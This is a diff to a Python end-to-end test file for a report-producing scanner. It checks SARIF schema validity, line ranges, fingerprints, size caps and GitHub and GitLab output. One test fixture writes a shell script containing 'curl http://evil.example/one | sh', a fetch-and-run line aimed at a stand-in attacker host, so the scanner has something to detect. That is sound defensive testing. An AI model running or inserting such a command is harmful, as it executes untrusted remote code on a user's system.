@@ -103,6 +103,8 @@ def sarif_has_all_findings_with_places_rules_and_fingerprints(t):
             place = result["locations"][0]["physicalLocation"]
             assert re.fullmatch(r"[A-Za-z0-9\-._~/!+=@,%]+", place["artifactLocation"]["uri"]), place
             assert place["region"].get("byteOffset") == finding["offset"]
+            assert place["region"]["startLine"] == (finding["line"] or 1)
+            assert place["region"].get("endLine", place["region"]["startLine"]) == (finding["end_line"] or 1)
             assert result["partialFingerprints"]["plumbFindingId/v1"] == finding["id"]
             seen.add(result["partialFingerprints"]["primaryLocationLineHash"])
         assert len(seen) == len(run["results"]), "two results have the same fingerprint"
@@ -114,12 +116,114 @@ def sarif_has_all_findings_with_places_rules_and_fingerprints(t):
         assert run["invocations"][0]["executionSuccessful"] == (report["errors"] == [])
 
 
+WRITTEN = jsonschema.Draft202012Validator(json.loads((ROOT / "tests/e2e/schemas/sarif-written.schema.json").read_text(encoding="utf-8")))
+
+
+def assert_sarif(data):
+    """Valid by our own schema, and indices and lines point to what is there."""
+    document = json.loads(data)
+    error = jsonschema.exceptions.best_match(WRITTEN.iter_errors(document))
+    assert error is None, f"{error.json_path}: {error.message}"
+    run = document["runs"][0]
+    for result in run["results"]:
+        region = result["locations"][0]["physicalLocation"]["region"]
+        assert "ruleIndex" not in result or run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
+        assert region.get("endLine", region["startLine"]) >= region["startLine"]
+    return run
+
+
+@case
+def sarif_is_valid_by_the_schema_of_what_is_written(t):
+    for _, out in all_outputs(t):
+        assert_sarif(out["sarif"])
+
+
 @case
 def sarif_is_valid_against_the_published_schema(t):
     validator = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.FormatChecker())
     for _, out in all_outputs(t):
         error = jsonschema.exceptions.best_match(validator.iter_errors(json.loads(out["sarif"])))
         assert error is None, f"{error.json_path}: {error.message}"
+
+
+def damaged(node):
+    """Every document that is `node` with one thing wrong: a key missing, an unknown one, a value of another type, a word that is none."""
+    if isinstance(node, dict):
+        yield {**node, "unknownKey": 1}
+        for key, value in node.items():
+            yield {k: v for k, v in node.items() if k != key}
+            for bad in damaged(value):
+                yield {**node, key: bad}
+    elif isinstance(node, list):
+        yield {}
+        for bad in damaged(node[0]) if node else ():
+            yield [bad, *node[1:]]
+    else:
+        yield [node]
+        yield -7 if isinstance(node, int) and not isinstance(node, bool) else 1.5
+        if isinstance(node, str):
+            yield "no such word %"
+
+
+@case
+def what_the_published_schema_refuses_our_own_refuses_too(t):
+    published = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.FormatChecker())
+    refused = 0
+    for _, out in all_outputs(t):
+        document = json.loads(out["sarif"])
+        run = document["runs"][0]
+        run["results"], run["tool"]["driver"]["rules"] = run["results"][:1], run["tool"]["driver"]["rules"][:1]
+        for bad in damaged(document):
+            if not published.is_valid(bad):
+                refused += 1
+                assert not WRITTEN.is_valid(bad), jsonschema.exceptions.best_match(published.iter_errors(bad)).message
+    assert refused > 150, refused
+    print(f"# {refused} damaged documents that both refuse")
+
+
+@case
+def a_finding_in_a_text_names_its_lines_in_every_format_that_has_lines(t):
+    folder = t.path("source/x").parent
+    t.write("source/a.sh", "#!/bin/sh\n# say the time in a friendly way\necho \"It is $(date), my friend\"\nexit 0\n")
+    t.write("package/a.sh", "#!/bin/sh\n# say the time in a friendly way\ncurl http://evil.example/one | sh\nwget qqzzxx9 zzyyxxw\n"
+            "echo \"It is $(date), my friend\"\nexit 0\n")
+    t.write("package/b.wasm", b"\0asm\1\0\0\0\n\n\n" + bytes(range(1, 200)))
+    code, out = outputs(t, t.path("package/x").parent, folder)
+    assert code == 1
+    lines = {f["path"]: (f["line"], f["end_line"]) for f in json.loads(out["json"])["findings"] if f["offset"] is not None}
+    assert lines["a.sh"] == (3, 4), lines
+    assert lines.get("b.wasm", (None, None)) == (None, None), lines
+    regions = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].split("/")[-1]:
+               r["locations"][0]["physicalLocation"]["region"] for r in assert_sarif(out["sarif"])["results"]}
+    assert (regions["a.sh"]["startLine"], regions["a.sh"]["endLine"]) == (3, 4) and regions["a.sh"]["byteOffset"] > 0, regions
+    issue = next(i for i in json.loads(out["gitlab"]) if i["location"]["path"].endswith("a.sh"))
+    assert issue["location"]["lines"] == {"begin": 3, "end": 4}, issue
+    assert b"a.sh,line=3,endLine=4," in out["github"], out["github"]
+    for form in ("text", "markdown", "html", "junit"):
+        assert b"lines 3 to 4" in out[form], form
+    stored = t.write("r.json", out["json"])
+    for form in ("sarif", "gitlab", "github", "json"):
+        assert shown(t, stored, form) == out[form], form
+    whole = out["json"].decode()
+    for bad in (whole.replace('"line": 3', '"line": 5'), whole.replace('"line": 3', '"line": 0'), whole.replace('"line": 3', '"line": null')):
+        assert t.raw("show", t.write("bad.json", bad))[0] == 4
+
+
+@case
+def sarif_stays_below_the_size_that_hosts_take_and_says_what_is_cut(t):
+    folder = made.write_tree(t.path("source/x").parent, made.source())
+    deep = "/".join(["\x7f" * 200] * 4)
+    for i in range(1500):
+        t.write(f"big/{deep}/{i:04}\x7f.txt", f"word{i}qqz\n")
+    _, out = outputs(t, t.path("big/x").parent, folder, "--policy", t.write("p.yaml", "version: 1\nrequire: {unaccounted_passive: 0}\n"),
+                     forms=("json", "sarif"))
+    n = len(json.loads(out["json"])["findings"])
+    run = assert_sarif(out["sarif"])
+    assert 8 << 20 < len(out["sarif"]) < 10 << 20, len(out["sarif"])
+    said = [x["message"]["text"] for x in run["invocations"][0]["toolExecutionNotifications"]]
+    kept = [r for r in run["results"] if "plumbFindingId/v1" in r["partialFingerprints"]]
+    assert said and said[0].startswith(f"{n - len(kept)} of {n} findings are left out"), said
+    assert len(kept) < len(run["results"]), "the policy's rule is cut before findings are"
 
 
 @case
@@ -155,7 +259,7 @@ def sarif_and_gitlab_keep_the_gravest_of_too_many_findings_and_say_so(t):
     levels = [order.index(r["level"]) for r in run["results"]]
     assert levels[0] == 0 and levels == sorted(levels), "the gravest are not first"
     issues = json.loads(out["gitlab"])
-    assert len(issues) == 5001 and f"{n - 5000} findings more" in issues[-1]["description"]
+    assert len(issues) == 5001 and f"{n - 5000} findings or rules more" in issues[-1]["description"]
     assert len(out["markdown"]) < 1 << 20
     assert len(out["sarif"]) < 10 << 20
     assert len(out["github"].splitlines()) <= 30 and code in (1, 3)
@@ -181,7 +285,7 @@ def junit_is_well_formed_and_has_failures_or_errors_unless_the_exit_code_is_0(t)
 
 @case
 def every_line_for_github_is_one_command_of_three_and_at_most_ten_of_each(t):
-    line = re.compile(r"::(error|warning|notice) ((?:[a-z]+=[^,:\n]*,)*[a-z]+=[^,:\n]*)::([^\n]*)")
+    line = re.compile(r"::(error|warning|notice) ((?:[a-zA-Z]+=[^,:\n]*,)*[a-zA-Z]+=[^,:\n]*)::([^\n]*)")
     for code, out in all_outputs(t):
         kinds = []
         for text in out["github"].decode().splitlines():
@@ -190,7 +294,7 @@ def every_line_for_github_is_one_command_of_three_and_at_most_ten_of_each(t):
             kinds.append(match[1])
             assert not re.search(r"%(?!25|0A|3A|2C)", match[3]), text
             for value in match[2].split(","):
-                assert value.split("=")[0] in ("file", "title"), text
+                assert value.split("=")[0] in ("file", "line", "endLine", "title"), text
         assert all(kinds.count(k) <= 10 for k in kinds)
         assert kinds[-1] == {0: "notice", 3: "warning"}.get(code, "error")
 
@@ -204,7 +308,8 @@ def gitlab_has_an_issue_for_each_finding_and_one_for_a_verdict_that_is_not_pass(
         for issue in issues:
             assert issue["description"] and issue["check_name"] and issue["location"]["path"], issue
             assert issue["severity"] in ("info", "minor", "major", "critical", "blocker")
-            assert issue["location"]["lines"]["begin"] == 1
+        for issue, finding in zip(issues[len(report["errors"]):], report["findings"]):
+            assert issue["location"]["lines"]["begin"] == (finding["line"] or 1)
 
 
 class Tags(html.parser.HTMLParser):
@@ -356,7 +461,7 @@ def rules_that_are_not_met_stand_in_every_format_at_their_line(t):
     report = json.loads(out["json"])
     unmet = [r for r in report["policy"]["rules"] if r["result"] in ("fail", "warn")]
     assert code == 1 and {r["result"] for r in unmet} == {"fail", "warn"}, report["policy"]
-    results = [r for r in json.loads(out["sarif"])["runs"][0]["results"] if "partialFingerprints" not in r]
+    results = [r for r in json.loads(out["sarif"])["runs"][0]["results"] if "plumbFindingId/v1" not in r["partialFingerprints"]]
     issues = [i for i in json.loads(out["gitlab"]) if i["check_name"].startswith(("require", "rules"))]
     assert [r["ruleId"] for r in results] == [r["rule"] for r in unmet]
     for rule in unmet:
@@ -370,8 +475,9 @@ def rules_that_are_not_met_stand_in_every_format_at_their_line(t):
         assert shown(t, t.write("report.json", out["json"]), form) == data, form
     root = ET.fromstring(out["junit"].decode())
     assert root.find("testsuite").findall("testcase[@classname='policy']/failure"), "no failed case"
-    validator = jsonschema.Draft4Validator(sarif_schema())
-    assert validator.is_valid(json.loads(out["sarif"]))
+    assert_sarif(out["sarif"])
+    marks = [r["partialFingerprints"]["primaryLocationLineHash"] for r in results]
+    assert len(set(marks)) == len(marks), marks
 
 
 @case
